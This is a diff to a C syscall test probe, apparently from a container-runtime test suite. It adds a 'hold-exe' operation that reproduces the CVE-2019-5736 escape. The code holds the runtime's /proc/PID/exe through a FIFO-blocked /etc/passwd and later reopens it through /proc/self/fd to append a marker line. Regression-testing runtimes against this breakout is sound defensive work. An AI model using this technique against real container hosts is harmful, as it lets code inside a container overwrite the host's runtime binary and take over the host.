@@ -29,6 +29,22 @@
  *                          (the CVE-2019-5736 move)
  *   cwd                    print the working directory
  *   sleep:MS               nanosleep (for the notify tests)
+ *   hold-exe:FIFO:N:DIR    the CVE-2019-5736 attack with CAP_SYS_PTRACE, on
+ *                          the runtime's processes in this pid namespace (those
+ *                          whose cmdline names minirun):
+ *                          1. N times a new one is seen: open FIFO for writing
+ *                             (the image's /etc/passwd, made a FIFO: exec's
+ *                             process blocks reading it for HOME), hold
+ *                             /proc/PID/exe of each (O_PATH), write a passwd
+ *                             line, close;
+ *                          2. once DIR/scan exists, hold those visible then
+ *                             (a created init waiting in this pid namespace),
+ *                             then create DIR/scanned;
+ *                          3. once DIR/go exists (no runtime process runs any
+ *                             more), reopen each held file through
+ *                             /proc/self/fd/N for appending and append a line.
+ *                          Prints hold:PID=R, exe:PID=TARGET, reopen:PID=R,
+ *                          write:PID=R.
  *   exchange:A:B:STOP      renameat2(A, B, RENAME_EXCHANGE) in a loop until
  *                          the file STOP exists (at most 10^8 times), ending
  *                          with A and B as they began; prints OP=0 and then
@@ -40,6 +56,7 @@
  * Build: gcc -static -O2 -o syscall_probe syscall_probe.c
  */
 #define _GNU_SOURCE
+#include <dirent.h>
 #include <errno.h>
 #include <fcntl.h>
 #include <setjmp.h>
@@ -170,6 +187,121 @@ static void reap(long pid)
     int status;
     if (pid > 0)
         waitpid((pid_t)pid, &status, __WALL);
+}
+
+/* -- hold-exe ------------------------------------------------------------ */
+
+#define MAX_HELD 64
+static int held_pid[MAX_HELD], held_fd[MAX_HELD], seen_pid[MAX_HELD];
+static int nheld, nseen;
+
+static void report_named(const char *what, int pid, long result, int err)
+{
+    char op[64];
+    const char *was = current_op;
+    snprintf(op, sizeof op, "%s:%d", what, pid);
+    current_op = op;
+    report(result, err);
+    current_op = was;
+}
+
+static int seen(int pid)
+{
+    for (int i = 0; i < nseen; i++)
+        if (seen_pid[i] == pid)
+            return 1;
+    return 0;
+}
+
+/* open /proc/PID/exe (O_PATH) of every runtime process not seen yet */
+static void hold_runtime_exes(void)
+{
+    DIR *proc = opendir("/proc");
+    struct dirent *entry;
+    while (proc && (entry = readdir(proc))) {
+        int pid = atoi(entry->d_name);
+        char path[64], cmdline[8192], target[4096];
+        if (pid <= 0 || pid == getpid() || seen(pid) || nseen >= MAX_HELD)
+            continue;
+        snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
+        int fd = open(path, O_RDONLY | O_CLOEXEC);
+        if (fd < 0)
+            continue;
+        ssize_t len = read(fd, cmdline, sizeof cmdline - 1);
+        close(fd);
+        if (len <= 0)
+            continue;
+        for (ssize_t i = 0; i < len; i++)
+            if (!cmdline[i])
+                cmdline[i] = ' ';
+        cmdline[len] = 0;
+        if (!strstr(cmdline, "minirun"))
+            continue;
+        seen_pid[nseen++] = pid;
+        snprintf(path, sizeof path, "/proc/%d/exe", pid);
+        fd = open(path, O_PATH | O_CLOEXEC);
+        report_named("hold", pid, fd, errno);
+        if (fd < 0)
+            continue;
+        snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
+        len = readlink(path, target, sizeof target - 1);
+        target[len > 0 ? len : 0] = 0;
+        printf("exe:%d=%s\n", pid, target);
+        fflush(stdout);
+        held_pid[nheld] = pid;
+        held_fd[nheld++] = fd;
+    }
+    if (proc)
+        closedir(proc);
+}
+
+static int wait_for_file(const char *dir, const char *name)
+{
+    char path[4096];
+    struct timespec tick = {0, 10 * 1000000L};
+    snprintf(path, sizeof path, "%s/%s", dir, name);
+    for (int i = 0; i < 12000; i++) {      /* a hang guard: 120 s */
+        if (access(path, F_OK) == 0)
+            return 0;
+        nanosleep(&tick, NULL);
+    }
+    printf("timeout:%s=-ETIME\n", name);
+    return -1;
+}
+
+static void hold_exe(const char *fifo, int wanted, const char *dir)
+{
+    static const char line[] = "root:x:0:0:root:/root:/bin/sh\n";
+    char path[4096];
+    signal(SIGPIPE, SIG_IGN);   /* a reader gone before the line is written */
+    while (nseen < wanted) {
+        int w = open(fifo, O_WRONLY | O_CLOEXEC);   /* until exec's process opens it */
+        if (w < 0) {
+            report_named("fifo", 0, -1, errno);
+            return;
+        }
+        hold_runtime_exes();    /* it is blocked reading: in the pid namespace, before execve */
+        if (write(w, line, sizeof line - 1) < 0)
+            ;
+        close(w);
+    }
+    if (wait_for_file(dir, "scan"))
+        return;
+    hold_runtime_exes();
+    snprintf(path, sizeof path, "%s/scanned", dir);
+    close(open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0644));
+    if (wait_for_file(dir, "go"))
+        return;
+    for (int i = 0; i < nheld; i++) {
+        snprintf(path, sizeof path, "/proc/self/fd/%d", held_fd[i]);
+        int w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
+        report_named("reopen", held_pid[i], w, errno);
+        if (w >= 0) {
+            static const char mark[] = "\n# appended from inside a container\n";
+            report_named("write", held_pid[i], write(w, mark, sizeof mark - 1), errno);
+            close(w);
+        }
+    }
 }
 
 static void do_op(char *op)
@@ -304,6 +436,8 @@ static void do_op(char *op)
         struct timespec ts = {(time_t)(num(f[1]) / 1000), (long)(num(f[1]) % 1000) * 1000000L};
         nanosleep(&ts, NULL);
         report(0, 0);
+    } else if (!strcmp(name, "hold-exe") && n >= 4) {
+        hold_exe(f[1], (int)num(f[2]), f[3]);
     } else if (!strcmp(name, "exchange") && n >= 4) {
         unsigned long swaps = 0;
         for (unsigned long i = 0; i < 100000000UL; i++) {
